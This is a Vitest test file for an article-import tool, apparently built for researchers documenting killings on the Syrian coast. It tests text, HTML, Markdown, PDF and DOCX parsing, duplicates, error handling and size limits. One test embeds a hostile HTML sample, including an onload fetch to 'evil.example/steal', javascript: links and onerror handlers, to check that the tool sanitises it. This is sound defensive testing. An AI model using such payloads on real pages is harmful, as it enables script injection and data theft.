import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Article, ImportResult } from '../../src/shared/schemas/article';
import { databaseFingerprint, FIXTURES, ok, tempWorkspace } from '../helpers/workspace';
import { makeDocx, makePdf } from '../helpers/make-documents';

let t: ReturnType<typeof tempWorkspace>;
beforeEach(() => {
  t = tempWorkspace();
});
afterEach(() => t.remove());

const fixture = (name: string) => readFileSync(join(FIXTURES, name));
const importBytes = (fileName: string, bytes: Buffer) => t.registry.call('articles.importFile', { fileName, dataBase64: bytes.toString('base64') });
async function importOk(fileName: string, bytes: Buffer): Promise<{ result: ImportResult; article: Article }> {
  const result = await ok<ImportResult>(t.registry, 'articles.importFile', { fileName, dataBase64: bytes.toString('base64') });
  return { result, article: await ok<Article>(t.registry, 'articles.get', { id: result.article.id }) };
}
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

describe('importing the sample documents', () => {
  it('keeps a .txt original byte-for-byte with its SHA-256, media type, file name and capture time', async () => {
    const bytes = fixture('syria-coast-2025-03.txt');
    const { result, article } = await importOk('syria-coast-2025-03.txt', bytes);
    expect(result.duplicate).toBe(false);
    expect(article.original).toMatchObject({ sha256: sha(bytes), mediaType: 'text/plain', fileName: 'syria-coast-2025-03.txt', byteSize: bytes.length, kind: 'text' });
    expect(Date.parse(article.original.capturedAt)).not.toBeNaN();
    const stored = t.ws.db.prepare('SELECT data FROM originals WHERE sha256 = ?').pluck().get(sha(bytes)) as Buffer;
    expect(Buffer.compare(stored, bytes)).toBe(0);
    expect(article.text).toContain('745 mostly Alawite civilians');
    expect(article.language).toBe('en');
    expect(article.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
  });

  it('detects Arabic and keeps the Arabic text exactly (NFC)', async () => {
    const bytes = fixture('synthetic-arabic-brief.txt');
    const { article } = await importOk('synthetic-arabic-brief.txt', bytes);
    expect(article.language).toBe('ar');
    expect(article.text).toBe(bytes.toString('utf8').normalize('NFC').trim());
    expect(article.text).toContain('«دخلوا البيوت وسألوا عن الطائفة قبل إطلاق النار»');
  });

  it('takes only the main article from a saved HTML page, with its metadata', async () => {
    const { article } = await importOk('synthetic-news-page.html', fixture('synthetic-news-page.html'));
    expect(article.title).toBe('Families search for the missing after raids on coastal villages');
    expect(article.publisher).toBe('Sample Herald');
    expect(article.author).toBe('Staff correspondent');
    expect(article.publishedAt).toBe('2025-03-10T08:30:00.000Z');
    expect(article.original.mediaType).toBe('text/html');
    expect(article.text).toContain('at least 60 people had been killed');
    expect(article.text).toContain('"My brother went out to buy bread and never came back,"');
    expect(article.text).toContain('more than 45 wounded');
    expect(article.text).toContain('independent investigation');
    for (const furniture of ['Home', 'Subscribe', 'Most read', 'Markets rally', 'Ten recipes', 'Copyright', 'newsroom@', 'Advertisement']) {
      expect(article.text).not.toContain(furniture);
    }
    for (const active of ['fetch(', 'document.cookie', 'alert', 'tracker', 'ads.example', 'collector', 'video.example', 'http']) {
      expect(article.text).not.toContain(active);
    }
    expect(article.text.split('\n\n').length).toBeGreaterThanOrEqual(4);
  });

  it('reads Markdown: front matter as metadata, words without markup', async () => {
    const { article } = await importOk('coastal-brief.md', fixture('coastal-brief.md'));
    expect(article).toMatchObject({ title: 'Coastal brief for the team', author: 'Desk researcher', publishedAt: '2025-03-12', sourceUrl: 'https://example.org/briefs/coastal', kind: 'markdown' });
    expect(article.text).toContain('Monitors gave different totals for the killings on the coast; see the monitor page.');
    expect(article.text).toContain('• SOHR counted 745 civilians.');
    expect(article.text).not.toMatch(/\*\*|\]\(|https:|!\[/);
  });

  it('reads the text layer and metadata of a PDF', async () => {
    const pdf = makePdf(['Residents said at least 60 people were killed in raids', 'on two villages near Baniyas over the weekend.'], {
      title: 'Field report',
      author: 'Field team',
      created: 'D:20250311120000Z',
    });
    const { article } = await importOk('report.pdf', pdf);
    // CreationDate is when the file was made (provenance), not when the report was published.
    expect(article).toMatchObject({ title: 'Field report', author: 'Field team', publishedAt: null, kind: 'pdf' });
    expect(article.original.mediaType).toBe('application/pdf');
    expect(article.text).toBe('Residents said at least 60 people were killed in raids on two villages near Baniyas over the weekend.');
  });

  it('reads the paragraphs and core properties of a .docx', async () => {
    const docx = makeDocx(['The first paragraph.', 'قُتل ما لا يقل عن ٤٥ مدنياً'], { title: 'Interview notes', creator: 'Researcher A', created: '2025-03-12T10:00:00Z' });
    const { article } = await importOk('notes.docx', docx);
    expect(article).toMatchObject({ title: 'Interview notes', author: 'Researcher A', publishedAt: null, kind: 'docx' });
    expect(article.text).toBe('The first paragraph.\n\nقُتل ما لا يقل عن ٤٥ مدنياً');
  });

  it('imports pasted text, keeping the pasted text itself as the original', async () => {
    const text = 'Line one\r\nLine two\r\n\r\n\r\n\r\nNext paragraph';
    const result = await ok<ImportResult>(t.registry, 'articles.importText', { text, title: 'Pasted note', sourceUrl: 'https://example.org/x' });
    const article = await ok<Article>(t.registry, 'articles.get', { id: result.article.id });
    expect(article.text).toBe('Line one\nLine two\n\nNext paragraph');
    expect(article.original).toMatchObject({ kind: 'pasted', fileName: null, sha256: sha(Buffer.from(text, 'utf8')) });
    expect(article.sourceUrl).toBe('https://example.org/x');
  });
});

describe('duplicates', () => {
  it('importing the same bytes twice creates nothing and names the article that holds them', async () => {
    const bytes = fixture('synthetic-monitor-bulletin.txt');
    const first = await importOk('synthetic-monitor-bulletin.txt', bytes);
    const before = databaseFingerprint(t.ws);
    const second = await ok<ImportResult>(t.registry, 'articles.importFile', { fileName: 'renamed copy.txt', dataBase64: bytes.toString('base64') });
    expect(second.duplicate).toBe(true);
    expect(second.article.id).toBe(first.article.id);
    expect(second.article.title).toBe(first.article.title);
    expect(databaseFingerprint(t.ws)).toBe(before);
  });

  it('the bytes of an article in the trash name it as in the trash, change nothing, and it can be restored', async () => {
    const bytes = fixture('synthetic-monitor-bulletin.txt');
    const first = await importOk('synthetic-monitor-bulletin.txt', bytes);
    expect(first.result.inTrash).toBe(false);
    await ok(t.registry, 'articles.delete', { id: first.article.id });
    const before = databaseFingerprint(t.ws);
    const again = await ok<ImportResult>(t.registry, 'articles.importFile', { fileName: 'copy.txt', dataBase64: bytes.toString('base64') });
    expect(again).toMatchObject({ duplicate: true, inTrash: true, article: { id: first.article.id, title: first.article.title } });
    expect(again.message).toBe(`copy.txt is already in the trash as “${first.article.title}”; nothing was imported. Restore it from the trash to use it again.`);
    expect(databaseFingerprint(t.ws)).toBe(before);
    const pasted = await ok<ImportResult>(t.registry, 'articles.importText', { text: 'A note that was pasted once.' });
    await ok(t.registry, 'articles.delete', { id: pasted.article.id });
    expect(await ok<ImportResult>(t.registry, 'articles.importText', { text: 'A note that was pasted once.' })).toMatchObject({ duplicate: true, inTrash: true, article: { id: pasted.article.id } });
    await ok(t.registry, 'trash.restore', { type: 'article', id: again.article.id });
    expect((await ok<Article>(t.registry, 'articles.get', { id: again.article.id })).title).toBe(first.article.title);
    expect(await ok<ImportResult>(t.registry, 'articles.importFile', { fileName: 'copy.txt', dataBase64: bytes.toString('base64') })).toMatchObject({ duplicate: true, inTrash: false });
  });
});

describe('bad input gets one clear message and writes nothing', () => {
  const cases: [string, string, Buffer, string, RegExp][] = [
    ['unsupported type', 'labels.json', Buffer.from('{"a":1}'), 'unsupported_type', /"\.json" files are not supported.*\.txt/],
    ['no extension', 'README', Buffer.from('hello'), 'unsupported_type', /without an extension/],
    ['binary garbage', 'photo.txt', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x01]), 'invalid_input', /not UTF-8 text|binary/],
    ['control-character soup', 'noise.txt', Buffer.from(Array.from({ length: 400 }, (_, i) => (i % 7 === 0 ? 0x41 : i % 31))), 'invalid_input', /binary/],
    ['empty file', 'empty.txt', Buffer.alloc(0), 'invalid_input', /empty/],
    ['whitespace only', 'blank.md', Buffer.from('  \n\n\t \n'), 'invalid_input', /no readable text/],
    ['HTML without text', 'empty.html', Buffer.from('<html><body><script>x()</script><nav>Home</nav></body></html>'), 'invalid_input', /no readable text/],
    ['truncated PDF', 'cut.pdf', makePdf(['Some text here']).subarray(0, 200), 'invalid_input', /could not be read as a PDF/],
    ['not a PDF at all', 'fake.pdf', Buffer.from('hello, I am not a PDF'), 'invalid_input', /PDF header/],
    ['DOCX that is not a zip', 'broken.docx', Buffer.from('this is plain text pretending'), 'invalid_input', /not a zip archive/],
  ];
  for (const [label, fileName, bytes, code, message] of cases) {
    it(label, async () => {
      const before = databaseFingerprint(t.ws);
      const result = await importBytes(fileName, bytes);
      expect(result.ok).toBe(false);
      if (!result.ok) {
        expect(result.error.code).toBe(code);
        expect(result.error.message).toMatch(message);
        expect(result.error.message).not.toMatch(/\n\s+at /); // never a stack
      }
      expect(databaseFingerprint(t.ws)).toBe(before);
    });
  }

  it('a file over 50 MB is refused before it is parsed', async () => {
    const before = databaseFingerprint(t.ws);
    const big = Buffer.alloc(50 * 1024 * 1024 + 1, 0x61);
    const result = await importBytes('huge.txt', big);
    expect(result).toMatchObject({ ok: false, error: { code: 'too_large' } });
    if (!result.ok) expect(result.error.message).toMatch(/50 MB/);
    expect(databaseFingerprint(t.ws)).toBe(before);
  });

  it('empty pasted text', async () => {
    const before = databaseFingerprint(t.ws);
    const result = await t.registry.call('articles.importText', { text: ' \n ' });
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringMatching(/empty/) } });
    expect(databaseFingerprint(t.ws)).toBe(before);
  });
});

describe('oversized input at the API boundary', () => {
  it('a base64 body far over the limit is refused by the schema as too_large', async () => {
    const result = await t.registry.call('articles.importFile', { fileName: 'big.txt', dataBase64: 'A'.repeat(70_000_000) });
    expect(result).toMatchObject({ ok: false, error: { code: 'too_large', message: expect.stringMatching(/50 MB/) } });
  });
});

describe('hostile files', () => {
  it('an HTML page full of active content yields only its words', async () => {
    const hostile = `<!doctype html><html><head>
      <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
      <link rel="preload" href="https://evil.example/x.js"><style>body{background:url(https://evil.example/bg.png)}</style>
      <script>document.write('<img src=https://evil.example/p.gif>')</script><noscript><img src="https://evil.example/n.gif"></noscript>
      </head><body onload="fetch('https://evil.example/steal')">
      <article><h1>Witness account</h1>
      <p>The <a href="javascript:alert(1)">men</a> arrived at dawn <img src="x" onerror="alert(1)" srcset="https://evil.example/s.png 2x">and asked about the sect.</p>
      <p>Residents fled <svg onload="alert(1)"><script>alert(2)</script></svg>to the hills.<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"></p>
      <form action="https://evil.example/post"><input name="q" value="typed secret"></form>
      <template><p>hidden template text</p></template>
      </article></body></html>`;
    const { article } = await importOk('hostile.html', Buffer.from(hostile));
    expect(article.text).toContain('The men arrived at dawn and asked about the sect.');
    expect(article.text).toContain('Residents fled to the hills.');
    for (const bad of ['evil.example', 'alert', 'fetch', 'document.write', 'javascript', 'typed secret', 'hidden template', 'background', 'onload']) {
      expect(article.text).not.toContain(bad);
    }
  });

  it('a text file that is not UTF-8 is read in a legacy encoding and the report names it, not refused', async () => {
    const { result, article } = await importOk('latin1.txt', Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x6f, 0x6b]));
    expect(article.text).toBe('Café ok');
    expect(result.report?.encoding).toBe('windows-1252');
  });
});
